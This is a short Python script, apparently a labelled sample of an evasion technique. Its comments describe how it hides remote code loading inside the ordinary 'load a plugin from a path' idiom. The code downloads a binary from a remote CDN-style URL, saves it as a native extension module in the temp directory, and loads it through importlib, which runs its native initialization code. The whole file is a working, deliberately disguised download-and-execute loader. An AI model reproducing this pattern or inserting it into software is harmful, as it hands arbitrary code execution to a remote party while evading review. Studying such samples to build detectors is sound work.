# Evasion: downloads a shared library and loads it as a native extension
# module. importlib.util.spec_from_file_location picks ExtensionFileLoader for a
# file with an extension-module suffix, so exec_module dlopen()s it and runs its
# PyInit function.
# Hides as: the ordinary "load a plugin module from a path" idiom; no ctypes.
import importlib.machinery
import importlib.util
import os
import tempfile
import urllib.request

URL = "https://cdn.fastpath-accel.dev/linux/fastpath.bin"


def fetch():
    suffix = importlib.machinery.EXTENSION_SUFFIXES[0]
    path = os.path.join(tempfile.gettempdir(), "fastpath" + suffix)
    with urllib.request.urlopen(URL, timeout=30) as resp, open(path, "wb") as out:
        out.write(resp.read())
    return path


def load_plugin(name, path):
    spec = importlib.util.spec_from_file_location(name, path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


if __name__ == "__main__":
    mod = load_plugin("fastpath", fetch())
    print("accelerator loaded:", getattr(mod, "__name__", "?"))
